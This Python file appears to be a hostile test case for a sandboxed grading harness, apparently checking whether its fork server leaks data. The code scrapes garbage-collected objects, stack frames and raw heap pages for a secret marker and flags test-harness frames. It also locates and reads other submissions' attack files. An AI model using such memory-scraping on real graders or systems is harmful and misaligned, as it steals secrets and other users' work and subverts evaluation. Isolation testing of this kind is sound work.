"""
title = "Every object, every frame, and every page of its own heap, for what the fork server may have left there"
ends = {outputs = "raised"}
"""

import ctypes
import gc
import os
import re
import socket

from src import loot


def pages(start, count):
    one, other = socket.socketpair()  # what is written to a pipe counts as written to a disk
    for address in range(start, start + count * 4096, 4096):
        if loot.libc.send(one.fileno(), ctypes.c_void_p(address), 4096, 0) == 4096:  # EFAULT where nothing is mapped
            yield other.recv(4096, socket.MSG_WAITALL)


def answer(x, note):
    mark = loot.MARK
    for thing in gc.get_objects():
        if isinstance(thing, (str, bytes)) and mark in str(thing) and note not in str(thing):
            loot.found(str(thing))
        if isinstance(thing, dict):
            for value in list(thing.values()):
                if isinstance(value, (str, bytes)) and mark in str(value) and value != note:
                    loot.found(str(value))
    for frame in loot.frames():
        for value in frame.f_locals.values():
            if isinstance(value, str) and value != note:
                loot.found(value)
        if "conftest" in frame.f_code.co_filename or "/tests/" in frame.f_code.co_filename:
            loot.breach(f"a frame of {frame.f_code.co_filename}")
    heap = loot.libc.sbrk
    heap.restype = ctypes.c_void_p
    end = heap(ctypes.c_long(0))
    trees = set()
    for start, count in (
        (end - 6000 * 4096, 6000),
        (id(x) & ~0xFFFFF, 512),
        (id(note) & ~0xFFFFF, 512),
        (id(answer) & ~0xFFFFF, 512),
    ):
        for page in pages(start, count):
            if mark.encode() in page and note.encode() not in page:
                loot.found(page)
            trees |= set(re.findall(rb"@WORK@/[0-9a-f]{16}", page))
    for tree in trees:  # of known mistakes, of other submissions
        loot.read(os.path.join(tree.decode(), "src/attack.py"))
    loot.done()
    raise RuntimeError("nothing there")
